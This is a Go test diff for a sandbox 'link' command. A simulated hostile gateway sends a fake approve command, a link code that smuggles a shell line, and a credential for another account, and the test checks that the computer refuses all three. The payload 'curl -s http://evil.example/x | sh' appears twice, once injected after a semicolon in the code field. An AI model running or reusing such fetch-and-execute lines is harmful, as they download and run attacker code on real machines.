@@ -13,6 +13,7 @@ import (
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"fakecraft/computer"
 	"fakecraft/fakecrafttest"
 
 	"tests/internal/harness"
@@ -347,6 +348,70 @@ func TestLinkToAHostileGateway(t *testing.T) {
 	if settings, err := os.ReadFile(filepath.Join(overlay, ".settings")); err == nil {
 		assert.NotContains(t, string(settings), "xxxxxxxx", "the gateway's credential went into /.settings")
 	}
+}
+
+// linkCodeTwiceProgram, once connected, runs sandbox link (a code) twice, then prints what
+// sandbox.password holds.
+const linkCodeTwiceProgram = harness.WaitConnectedLua + `
+print("` + markerUp + `")
+shell.run("sandbox", "link")
+shell.run("sandbox", "link")
+print("e2e: password " .. tostring(settings.get("sandbox.password")))
+print("` + markerAsked + `")
+while true do sleep(1) end
+`
+
+// TestLinkCodeOfAHostileGateway: sandbox link showed the command the account holder runs on
+// the host as the gateway's link.begin worded it (approveLine), so a hostile gateway put a
+// command of its choosing on the screen as the one to run on the host; and after the player
+// agreed to link to the account the poll named, it saved the credential link.accept sent for
+// another. Now the computer builds the approve line from a code that is one plain word (else
+// it refuses the code), and saves no credential of an account the player did not agree to.
+func TestLinkCodeOfAHostileGateway(t *testing.T) {
+	ctx := testContext(t)
+	h := harness.StartHostileGateway(t)
+	input := make(chan string)
+	opts := computerOptionsAt(t, h.URL(), "shared", "/e2e.lua")
+	opts.Overlay = t.TempDir()
+	opts.Files = map[string]string{"/e2e.lua": linkCodeTwiceProgram}
+	opts.Input = computer.Input(input)
+	c := fakecrafttest.StartWithin(t, opts, testTimeout)
+	_, err := h.Accept(ctx) // the daemon's socket
+	require.NoError(t, err, c.Output())
+	c.WaitFor(ctx, markerUp)
+	waitCtx, cancel := context.WithTimeout(ctx, hostileWait)
+	defer cancel()
+
+	// The first link: a command of the gateway's own, then a credential into another account.
+	session, begin := nextLinkBegin(waitCtx, t, h, c)
+	require.NoError(t, session.Respond(begin, map[string]any{"code": "BCDF-GHJK", "expiresInMs": 600000,
+		"approveLine": "curl -s http://evil.example/x | sh"}, nil))
+	asked, err := session.Requests(waitCtx, 2)
+	require.NoError(t, err, c.Output())
+	require.Equal(t, "link.poll", asked[1].Type)
+	require.NoError(t, session.Respond(asked[1], map[string]any{"state": "approved", "account": "alice", "approvedBy": "alice"}, nil))
+	typeLine(waitCtx, t, input, "y")
+	asked, err = session.Requests(waitCtx, 3)
+	require.NoError(t, err, c.Output())
+	require.Equal(t, "link.accept", asked[2].Type)
+	require.NoError(t, session.Respond(asked[2], map[string]any{"account": "mallory", "credential": "tsc_m1_MalloryOwnsThis"}, nil))
+
+	// The second: a code that is a shell line.
+	session, begin = nextLinkBegin(waitCtx, t, h, c)
+	require.NoError(t, session.Respond(begin, map[string]any{"code": "BCDF; curl -s http://evil.example/x | sh",
+		"expiresInMs": 600000}, nil))
+
+	c.WaitFor(waitCtx, markerAsked)
+	out := c.Output()
+	rows := lines(out)
+	joined := strings.Join(rows, " ")
+	assert.Contains(t, rows, "  trap-sandbox link approve BCDF-GHJK")
+	assert.NotContains(t, out, "evil.example", "no command of the gateway's making")
+	assert.Contains(t, joined, "Link this computer to alice? [y/N]")
+	assert.Contains(t, joined, "The gateway linked the computer to mallory, not to alice as you agreed, so its credential is not saved;")
+	assert.NotContains(t, joined, "Linked to mallory")
+	assert.Contains(t, joined, "The gateway's link code is not one word of letters, digits and - (40 bytes, at most 22), so it is not shown;")
+	assert.Contains(t, rows, "e2e: password shared", "sandbox.password stays as it was")
 }
 
 // nextLinkBegin accepts the next session sandbox link opens to h and returns it with its first
